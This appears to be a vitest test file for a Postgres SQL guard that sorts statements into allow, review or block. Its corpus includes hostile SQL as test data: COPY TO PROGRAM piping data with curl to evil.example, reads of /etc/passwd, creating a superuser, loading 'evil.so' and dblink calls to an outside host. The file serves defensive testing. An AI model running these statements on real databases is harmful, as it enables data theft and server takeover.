import { beforeAll, describe, expect, it } from 'vitest';
import {
  analyzeBatch,
  type BatchAnalysis,
  DEFAULT_SQL_RULES,
  evaluateBatch,
  initSqlParser,
  type SqlRule,
  SqlRuleSchema,
  type StatementInfo,
} from '../../src/protocols/postgres/guard';

beforeAll(async () => {
  await initSqlParser();
});

type Action = 'allow' | 'review' | 'block';
/** [sql, expected action, expected rule (not for allow), index of the deciding statement (default 0)] */
type Case = [sql: string, action: Action, rule?: string, statementIndex?: number];

// The corpus. docs/guardrails-sql.md summarises it; keep the two in step.
// corpus:start
const CORPUS: Case[] = [
  // ---- allow: ordinary work, and dangerous-looking text that is only text ----
  ['SELECT 1', 'allow'],
  ["SELECT 'DROP TABLE x'", 'allow'],
  ['select 1 -- ; drop database x', 'allow'],
  ['/* drop database x; */ select 1', 'allow'],
  ['/* /* nested */ drop database x; */ select 1', 'allow'],
  ['SELECT $x$ ; drop table y $x$', 'allow'],
  ['SELECT $$DROP DATABASE prod$$', 'allow'],
  ["select E'a\\'; drop table x; --'", 'allow'],
  ["SELECT 'pg_read_file(''/etc/passwd'')'", 'allow'],
  ['SELECT * FROM "Users" WHERE "Name" = \'x\'', 'allow'],
  ['SELECT o.id FROM public.orders o JOIN public.customers c ON c.id = o.customer_id', 'allow'],
  ['DELETE FROM t WHERE id = 1', 'allow'],
  ['UPDATE t SET a = 1 WHERE id = 1', 'allow'],
  ['INSERT INTO t (a) VALUES (1)', 'allow'],
  ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', 'allow'],
  ['SELECT * FROM t FOR UPDATE', 'allow'],
  ['SELECT * INTO newtable FROM t', 'allow'],
  ['EXPLAIN SELECT * FROM t', 'allow'],
  ['EXPLAIN ANALYZE SELECT * FROM t', 'allow'],
  ['SHOW search_path', 'allow'],
  ['SET search_path TO app, public', 'allow'],
  ["SET statement_timeout = '5s'", 'allow'],
  ['BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT', 'allow'],
  ['COPY t TO STDOUT', 'allow'],
  ['COPY t FROM STDIN', 'allow'],
  ['COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)', 'allow'],
  ['CREATE TABLE t2 (id int PRIMARY KEY)', 'allow'],
  ['CREATE INDEX ON t (a)', 'allow'],
  ['CREATE VIEW v AS SELECT id FROM t', 'allow'],
  ["select set_config('statement_timeout', '5s', false)", 'allow'],
  ['SELECT pg_sleep(0.1)', 'allow'],
  ['SELECT count(*) FROM pg_stat_activity', 'allow'],
  ['CALL my_proc(1)', 'allow'],
  ['DELETE FROM t WHERE CURRENT OF c', 'allow'],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a', 'allow'],
  ['VALUES (1), (2)', 'allow'],
  ['TABLE t', 'allow'],
  ['', 'allow'],
  ['   \n\t  ', 'allow'],
  ['-- only a comment', 'allow'],
  ['sElEcT * fRoM T wHeRe Id = 1', 'allow'],
  // ---- review: destructive or not statically analysable ----
  ['select 1; drop table x', 'review', 'drop-object', 1],
  ['DROP TABLE x', 'review', 'drop-object'],
  ['drop table if exists "Weird Name" cascade', 'review', 'drop-object'],
  ['DROP SCHEMA s CASCADE', 'review', 'drop-object'],
  ['DROP OWNED BY bob', 'review', 'drop-object'],
  ['DELETE FROM t', 'review', 'delete-without-where'],
  ['delete from t where true', 'review', 'delete-without-where'],
  ['UPDATE t SET a = 1', 'review', 'update-without-where'],
  ['UPDATE t SET a = 1 WHERE 1 = 1', 'review', 'update-without-where'],
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'review', 'delete-without-where'],
  ['TRUNCATE t', 'review', 'truncate'],
  ['truncate table a, b restart identity', 'review', 'truncate'],
  ['ALTER TABLE t ADD COLUMN c int', 'review', 'alter-table'],
  ["DO $$ BEGIN EXECUTE 'drop table x'; END $$", 'review', 'drop-object'],
  ["DO $$ BEGIN RAISE NOTICE 'hi'; END $$", 'review', 'do-block'],
  ["DO $$ DECLARE q text := 'drop table x'; BEGIN EXECUTE q; END $$", 'review', 'do-block'],
  ['PREPARE p AS DELETE FROM t; EXECUTE p', 'review', 'delete-without-where', 0],
  ['PREPARE p AS SELECT * FROM t WHERE id = $1; EXECUTE p(1)', 'review', 'dynamic-sql', 1],
  ['EXPLAIN ANALYZE DELETE FROM t', 'review', 'delete-without-where'],
  ["select query_to_xml('select * from t', true, false, '')", 'review', 'dynamic-sql'],
  ["select set_config(current_setting('my.var'), 'x', false)", 'review', 'dynamic-config'],
  ['CREATE EXTENSION dblink', 'review', 'create-extension'],
  ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'delete from t'", 'review', 'delete-without-where'],
  ['select 1; select 2; delete from t', 'review', 'delete-without-where', 2],
  // ---- block ----
  ['DROP DATABASE prod', 'block', 'drop-database'],
  ['dRoP dAtAbAsE x', 'block', 'drop-database'],
  ['drop database "Prod" -- bye', 'block', 'drop-database'],
  ['select 1; drop database x', 'block', 'drop-database', 1],
  ['DROP TABLE a; DROP DATABASE b', 'block', 'drop-database', 1],
  ['sel/**/ect 1', 'block', 'syntax-error'],
  ['select 1; selec 2', 'block', 'syntax-error'],
  ["select 'unterminated", 'block', 'syntax-error'],
  ['select 1 /* unterminated', 'block', 'syntax-error'],
  ['select 1\0; drop table x', 'block', 'syntax-error'],
  ['ALTER SYSTEM SET max_connections = 1000', 'block', 'alter-system'],
  ['GRANT SELECT ON t TO bob', 'block', 'privilege-change'],
  ['GRANT admin TO bob', 'block', 'privilege-change'],
  ['REVOKE ALL ON t FROM bob', 'block', 'privilege-change'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', 'block', 'privilege-change'],
  ['CREATE ROLE hacker SUPERUSER LOGIN', 'block', 'role-management'],
  ['ALTER ROLE bob SUPERUSER', 'block', 'role-management'],
  ["ALTER USER bob WITH PASSWORD 'x'", 'block', 'role-management'],
  ['DROP ROLE bob', 'block', 'role-management'],
  ["COPY t TO PROGRAM 'curl -d @- http://evil.example'", 'block', 'copy-program'],
  ["COPY t FROM PROGRAM 'id'", 'block', 'copy-program'],
  ["COPY (SELECT 1) TO PROGRAM 'sh -c x'", 'block', 'copy-program'],
  ["COPY t FROM '/etc/passwd'", 'block', 'copy-server-file'],
  ["COPY t TO '/tmp/dump.csv'", 'block', 'copy-server-file'],
  ['select * from t where id = (select pg_terminate_backend(123))', 'block', 'server-admin-functions'],
  ['SELECT CASE WHEN true THEN pg_cancel_backend(1) END', 'block', 'server-admin-functions'],
  ['SELECT pg_reload_conf()', 'block', 'server-admin-functions'],
  ["SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", 'block', 'server-file-functions'],
  ["select lo_import('/etc/passwd')", 'block', 'server-file-functions'],
  ["select * from pg_ls_dir('/')", 'block', 'server-file-functions'],
  ["WITH x AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM x", 'block', 'server-file-functions'],
  ['select "pg_read_file"(\'/etc/passwd\')', 'block', 'server-file-functions'],
  ['CALL p(pg_terminate_backend(1))', 'block', 'server-admin-functions'],
  ['SET ROLE postgres', 'block', 'set-role'],
  ['set local role postgres', 'block', 'set-role'],
  ['RESET ROLE', 'block', 'set-role'],
  ["select set_config('role', 'postgres', false)", 'block', 'set-role'],
  ['SET SESSION AUTHORIZATION x', 'block', 'set-session-authorization'],
  ['DISCARD ALL', 'block', 'set-session-authorization'],
  ["select dblink('host=evil', 'select 1')", 'block', 'dblink'],
  ["select dblink_exec('host=evil', 'drop table y')", 'block', 'dblink'],
  [
    'DO $$ BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END $$',
    'block',
    'server-admin-functions',
  ],
  ["DO $$ BEGIN EXECUTE 'select lo_export(1, ''/tmp/x'')'; END $$", 'block', 'server-file-functions'],
  ['DO LANGUAGE plpython3u $$ import os $$', 'block', 'untrusted-language'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f'", 'block', 'untrusted-language'],
  [
    "CREATE FUNCTION f() RETURNS void AS $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$ LANGUAGE plpgsql",
    'block',
    'server-file-functions',
  ],
  ["LOAD 'evil.so'", 'block', 'load-library'],
  [
    'CREATE OPERATOR ### (FUNCTION = pg_catalog.pg_terminate_backend, RIGHTARG = int)',
    'block',
    'server-admin-functions',
  ],
  [
    'CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION pg_reload_conf()',
    'block',
    'server-admin-functions',
  ],
  ['CREATE CAST (int AS text) WITH FUNCTION pg_read_file(int)', 'block', 'server-file-functions'],
  ['select * from "Users"; ALTER SYSTEM SET fsync = off', 'block', 'alter-system', 1],
  ['DELETE FROM t; GRANT ALL ON t TO PUBLIC', 'block', 'privilege-change', 1],
];
// corpus:end

const analyze = (sql: string): Extract<BatchAnalysis, { ok: true }> => {
  const result = analyzeBatch(sql);
  if (!result.ok) throw new Error(`expected ${JSON.stringify(sql)} to parse: ${result.error.message}`);
  return result;
};
const one = (sql: string): StatementInfo => {
  const { statements } = analyze(sql);
  expect(statements).toHaveLength(1);
  return statements[0]!;
};

describe('SQL guard corpus under DEFAULT_SQL_RULES', () => {
  it('has at least 70 statements', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(70);
  });

  it.each(CORPUS)('%j → %s %s', (sql, action, rule, statementIndex) => {
    const verdict = evaluateBatch(analyzeBatch(sql), DEFAULT_SQL_RULES);
    expect(verdict.action).toBe(action);
    if (action === 'allow') {
      expect(verdict.rule).toBeUndefined();
      return;
    }
    expect(verdict.rule).toBe(rule);
    expect(verdict.message.length).toBeGreaterThan(0);
    if (rule !== 'syntax-error') {
      expect(verdict.statementIndex).toBe(statementIndex ?? 0);
      expect(verdict.statement).toBe(verdict.statements[verdict.statementIndex!]!.text);
    }
  });
});

describe('analyzeBatch', () => {
  it('slices each statement from the source (byte offsets, multi-byte text, comments)', () => {
    const { statements } = analyze("select 'héé' from t; /* c */ -- x\n  drop table y  ;  ");
    expect(statements.map((s) => [s.index, s.kind, s.text])).toEqual([
      [0, 'SelectStmt', "select 'héé' from t"],
      [1, 'DropStmt', 'drop table y'],
    ]);
    const three = analyze('SELECT 1;SELECT 2 ;\n\nSELECT $$;$$');
    expect(three.statements.map((s) => s.text)).toEqual(['SELECT 1', 'SELECT 2', 'SELECT $$;$$']);
  });

  it('reports an empty, whitespace-only or comment-only batch as zero statements', () => {
    expect(analyzeBatch('')).toEqual({ ok: true, statements: [] });
    expect(analyzeBatch(' \n\t')).toEqual({ ok: true, statements: [] });
    expect(analyzeBatch('/* nothing */ -- here')).toEqual({ ok: true, statements: [] });
    expect(evaluateBatch(analyzeBatch(''), DEFAULT_SQL_RULES)).toMatchObject({
      action: 'allow',
      statements: [],
    });
  });

  it('returns the parser message and a 1-based position for invalid SQL', () => {
    expect(analyzeBatch('sel/**/ect 1')).toEqual({
      ok: false,
      error: { message: 'syntax error at or near "sel"', position: 1 },
    });
    expect(analyzeBatch('select 1; selec 2')).toMatchObject({ ok: false, error: { position: 11 } });
    // Positions count characters, not UTF-8 bytes.
    expect(analyzeBatch("select 'héé' frm t")).toMatchObject({ ok: false, error: { position: 18 } });
    const verdict = evaluateBatch(analyzeBatch('sel/**/ect 1'), DEFAULT_SQL_RULES);
    expect(verdict).toMatchObject({ action: 'block', rule: 'syntax-error', position: 1, statements: [] });
    expect(verdict.message).toContain('syntax error at or near "sel"');
  });

  it('refuses NUL characters and trees too deep to analyse (fails closed)', () => {
    expect(analyzeBatch('select 1\0; drop table x')).toMatchObject({ ok: false, error: { position: 9 } });
    const deep = `select 1${' + 1'.repeat(30_000)}`;
    const result = analyzeBatch(deep);
    expect(result.ok).toBe(false);
    expect(evaluateBatch(result, DEFAULT_SQL_RULES).action).toBe('block');
  });

  it('extracts relations from joins, subqueries, CTE bodies and DML targets', () => {
    const s = one(
      'WITH recent AS (SELECT * FROM sales.orders WHERE at > now()) ' +
        'SELECT * FROM recent r JOIN "Customers" c ON c.id = r.cid ' +
        'LEFT JOIN crm.Accounts a ON a.id = c.aid WHERE EXISTS (SELECT 1 FROM audit.log l WHERE l.cid = c.id)',
    );
    expect([...s.relations].sort()).toEqual(['audit.log', 'crm.accounts', 'customers', 'sales.orders']);
    expect(one('INSERT INTO archive.t SELECT * FROM live.t').relations).toEqual(['archive.t', 'live.t']);
    expect(one('UPDATE t SET a = u.a FROM u WHERE t.id = u.id').relations).toEqual(['t', 'u']);
    expect(one('select a from db.s.t').relations).toEqual(['db.s.t']);
    expect(one('SELECT * INTO newtable FROM t').relations).toEqual(['newtable', 't']);
    expect(one('DROP TABLE payroll.salaries, "Temp"').relations).toEqual(['payroll.salaries', 'temp']);
    expect(one('TRUNCATE a, s.b').relations).toEqual(['a', 's.b']);
    expect(one('GRANT SELECT ON s.t TO bob').relations).toEqual(['s.t']);
    expect(one('DROP FUNCTION f(int)').relations).toEqual([]);
  });

  it('excludes CTE names only where the CTE is in scope', () => {
    expect(one('WITH x AS (SELECT 1) SELECT * FROM x').relations).toEqual([]);
    expect(one('WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r').relations).toEqual(
      [],
    );
    // The outer `x` is a real table: the CTE is only visible inside the parenthesised query.
    expect(one('SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) s, x').relations).toEqual(['x']);
    // A DML target is always a table, even when a CTE has the same name.
    expect(one('WITH t AS (SELECT 1) DELETE FROM t').relations).toEqual(['t']);
    // A schema-qualified name is never a CTE.
    expect(one('WITH t AS (SELECT 1) SELECT * FROM public.t').relations).toEqual(['public.t']);
  });

  it('tags every function call in both plain and schema-qualified form, however deep', () => {
    const s = one(
      "SELECT CASE WHEN x > 0 THEN upper(PG_CATALOG.lower('A')) END FROM t WHERE id IN (SELECT my.fn(abs(a)) FROM u)",
    );
    expect(s.tags).toEqual(
      expect.arrayContaining([
        'function:upper',
        'function:lower',
        'function:pg_catalog.lower',
        'function:fn',
        'function:my.fn',
        'function:abs',
      ]),
    );
    expect(s.readOnly).toBe(true);
  });

  it('derives DML, COPY, EXPLAIN and session tags', () => {
    expect(one('DELETE FROM t').tags).toContain('delete-without-where');
    expect(one('DELETE FROM t WHERE id = 1').tags).not.toContain('delete-without-where');
    expect(one("DELETE FROM t WHERE now() > '2000-01-01'").tags).toContain('delete-without-where');
    expect(one('UPDATE t SET a = 1').tags).toContain('update-without-where');
    expect(one('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d').tags).toEqual(
      expect.arrayContaining(['writable-cte', 'delete-without-where', 'contains:DeleteStmt']),
    );
    expect(one("COPY t TO PROGRAM 'x'").tags).toContain('copy-program');
    expect(one("COPY t TO '/tmp/x'").tags).toContain('copy-to-file');
    expect(one("COPY t FROM '/tmp/x'").tags).toContain('copy-from-file');
    expect(one('COPY t TO STDOUT').tags).toEqual([]);
    expect(one('EXPLAIN ANALYZE SELECT 1').tags).toContain('explain-analyze');
    expect(one('EXPLAIN (ANALYZE false) SELECT 1').tags).not.toContain('explain-analyze');
    expect(one('SELECT * INTO n FROM t').tags).toContain('select-into');
    expect(one('SELECT * FROM t FOR SHARE').tags).toContain('locking-read');
    expect(one('SET ROLE x').tags).toEqual(['set-role']);
    expect(one('SET SESSION AUTHORIZATION DEFAULT').tags).toEqual(['set-session-authorization']);
    expect(one('SET search_path = a').tags).toEqual(['set-search-path']);
    expect(one('SET default_transaction_read_only = off').tags).toEqual(['read-write-override']);
    expect(one('BEGIN READ WRITE').tags).toEqual(['read-write-override']);
    expect(one('SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE').tags).toEqual([
      'read-write-override',
    ]);
    expect(one('BEGIN READ ONLY').tags).toEqual([]);
    expect(one('EXECUTE p(1)').tags).toEqual(['dynamic-sql']);
  });

  it('marks DO blocks as dynamic but still reports what their body says statically', () => {
    const s = one(
      "DO $$ BEGIN EXECUTE 'drop table x'; PERFORM pg_terminate_backend(1); DELETE FROM y; END $$",
    );
    expect(s.kind).toBe('DoStmt');
    expect(s.tags).toEqual(
      expect.arrayContaining([
        'do-block',
        'dynamic-sql',
        'language:plpgsql',
        'contains:DropStmt',
        'function:pg_terminate_backend',
        'delete-without-where',
      ]),
    );
    expect([...s.relations].sort()).toEqual(['x', 'y']);
    expect(s.readOnly).toBe(false);
    const python = one('DO LANGUAGE plpython3u $$ import os $$');
    expect(python.tags).toEqual(
      expect.arrayContaining(['do-block', 'dynamic-sql', 'language:plpython3u', 'body-unparsed']),
    );
  });

  it('computes readOnly from the statement kind', () => {
    const cases: [string, boolean][] = [
      ['SELECT * FROM t', true],
      ['SELECT pg_sleep(1)', true],
      ['VALUES (1)', true],
      ['EXPLAIN DELETE FROM t', true],
      ['EXPLAIN ANALYZE SELECT 1', true],
      ['EXPLAIN ANALYZE DELETE FROM t', false],
      ['SHOW work_mem', true],
      ['BEGIN', true],
      ['COMMIT', true],
      ['BEGIN READ WRITE', false],
      ['SELECT * INTO n FROM t', false],
      ['SELECT * FROM t FOR UPDATE', false],
      ['WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d', false],
      ["SELECT set_config('role', 'x', false)", false],
      ["SELECT query_to_xml('select 1', true, false, '')", false],
      ['INSERT INTO t VALUES (1)', false],
      ['SET work_mem = 1', false],
      ['DO $$ BEGIN END $$', false],
      ['EXECUTE p', false],
    ];
    for (const [sql, readOnly] of cases) expect([sql, one(sql).readOnly]).toEqual([sql, readOnly]);
  });

  it('lower-cases kinds of case-mangled input and quoted identifiers', () => {
    const s = one('dRoP dAtAbAsE "MyDb"');
    expect(s.kind).toBe('DropdbStmt');
    expect(one('SELECT * FROM "Sales"."Orders"').relations).toEqual(['sales.orders']);
  });
});

describe('evaluateBatch and rule matching', () => {
  const evalWith = (sql: string, rules: SqlRule[]) => evaluateBatch(analyzeBatch(sql), rules);
  const rule = (name: string, match: SqlRule['match'], action: SqlRule['action'] = 'block'): SqlRule => ({
    name,
    action,
    match,
  });

  it('validates the default rules with the schema and rejects malformed rules', () => {
    for (const r of DEFAULT_SQL_RULES) expect(SqlRuleSchema.parse(r)).toEqual(r);
    expect(new Set(DEFAULT_SQL_RULES.map((r) => r.name)).size).toBe(DEFAULT_SQL_RULES.length);
    expect(SqlRuleSchema.safeParse({ name: 'x', action: 'warn', match: {} }).success).toBe(false);
    expect(SqlRuleSchema.safeParse({ name: 'x', action: 'block' }).success).toBe(false);
  });

  it('takes the strictest verdict in the batch and names the first statement that has it', () => {
    const v = evalWith('DELETE FROM t; SELECT 1; DROP DATABASE d; DROP DATABASE e', DEFAULT_SQL_RULES);
    expect(v).toMatchObject({
      action: 'block',
      rule: 'drop-database',
      statementIndex: 2,
      statement: 'DROP DATABASE d',
    });
    expect(v.message).toContain('statement 3');
    expect(v.statements).toHaveLength(4);
  });

  it('passes the explain flag of the deciding rule', () => {
    expect(evalWith('UPDATE t SET a = 1', DEFAULT_SQL_RULES).explain).toBe(true);
    expect(evalWith('TRUNCATE t', DEFAULT_SQL_RULES).explain).toBeUndefined();
  });

  it('matches relations with wildcards, schema-optional', () => {
    const payroll = [rule('payroll', { relations: ['payroll.salaries'] })];
    expect(evalWith('SELECT * FROM payroll.salaries', payroll).action).toBe('block');
    expect(evalWith('SELECT * FROM PAYROLL.Salaries', payroll).action).toBe('block');
    // Unqualified: may resolve to payroll.salaries through search_path, so it matches.
    expect(evalWith('SELECT * FROM salaries', payroll).action).toBe('block');
    expect(evalWith('SELECT * FROM hr.salaries', payroll).action).toBe('allow');
    const schemaWide = [rule('payroll-all', { relations: ['payroll.*'] })];
    expect(evalWith('SELECT * FROM payroll.bonuses', schemaWide).action).toBe('block');
    expect(evalWith('SELECT * FROM bonuses', schemaWide).action).toBe('allow');
    const publicWide = [rule('public-all', { relations: ['public.*'] })];
    expect(evalWith('SELECT * FROM users', publicWide).action).toBe('block');
    const anySchema = [rule('customers', { relations: ['customers'] })];
    expect(evalWith('SELECT * FROM crm.customers', anySchema).action).toBe('block');
    expect(evalWith('SELECT * FROM customers_archive', anySchema).action).toBe('allow');
    expect(evalWith('SELECT * FROM t WHERE id IN (SELECT id FROM customers)', anySchema).action).toBe(
      'block',
    );
  });

  it('matches functions case-insensitively, schema optional, with wildcards', () => {
    const rules = [rule('fn', { functions: ['audit.purge*'] })];
    expect(evalWith('SELECT audit.purge_all()', rules).action).toBe('block');
    expect(evalWith('SELECT AUDIT.PURGE_OLD(1)', rules).action).toBe('block');
    expect(evalWith('SELECT purge_all()', rules).action).toBe('block');
    expect(evalWith('SELECT purgatory()', rules).action).toBe('allow');
  });

  it('requires every given criterion, any value within one', () => {
    const rules = [rule('delete-payroll', { kinds: ['DeleteStmt'], relations: ['payroll.*'] }, 'review')];
    expect(evalWith('DELETE FROM payroll.x WHERE id = 1', rules).action).toBe('review');
    expect(evalWith('DELETE FROM crm.x WHERE id = 1', rules).action).toBe('allow');
    expect(evalWith('SELECT * FROM payroll.x', rules).action).toBe('allow');
    // kinds also match statements nested in CTEs, EXPLAIN, PREPARE and DO bodies
    expect(
      evalWith('WITH d AS (DELETE FROM payroll.x WHERE id = 1 RETURNING *) SELECT * FROM d', rules).action,
    ).toBe('review');
    // an empty list is "not given"; a rule with no criterion matches every statement
    expect(evalWith('SELECT 1', [rule('all', { kinds: [] }, 'review')]).action).toBe('review');
    expect(evalWith('SELECT 1', [rule('tags-glob', { tags: ['function:*'] })]).action).toBe('allow');
    expect(evalWith('SELECT now()', [rule('tags-glob', { tags: ['function:*'] })]).action).toBe('block');
  });

  it('uses the rule name when the rule has no message', () => {
    const v = evalWith('SELECT 1', [rule('everything', {}, 'review')]);
    expect(v).toMatchObject({
      action: 'review',
      rule: 'everything',
      statementIndex: 0,
      statement: 'SELECT 1',
    });
    expect(v.message).toContain('everything');
  });
});

describe('analysis of repeated batches', () => {
  it('parses a text once: the same frozen analysis comes back, and nothing can change it', () => {
    const text = 'select id, email from customers where id = 424242';
    const first = analyzeBatch(text);
    const again = analyzeBatch(text);
    expect(again).toBe(first);
    expect(Object.isFrozen(first)).toBe(true);
    if (!first.ok) throw new Error('expected the batch to parse');
    const s = first.statements[0]!;
    expect(() => {
      (s.relations as string[]).push('pg_authid');
    }).toThrow(TypeError);
    expect(() => {
      (s as { kind: string }).kind = 'SelectStmt-edited';
    }).toThrow(TypeError);
    expect(analyzeBatch(text)).toEqual(first);
    // A different text (one character) is analysed on its own.
    const other = analyzeBatch('select id, email from customers where id = 424243');
    expect(other).not.toBe(first);
  });

  it('gives the cached analysis the verdict a fresh parse would get', () => {
    const text = 'DELETE FROM customers';
    const rules = DEFAULT_SQL_RULES;
    const fresh = evaluateBatch(analyzeBatch(text), rules);
    const cached = evaluateBatch(analyzeBatch(text), rules);
    expect(cached).toEqual(fresh);
    expect(cached.action).toBe('review');
  });
});
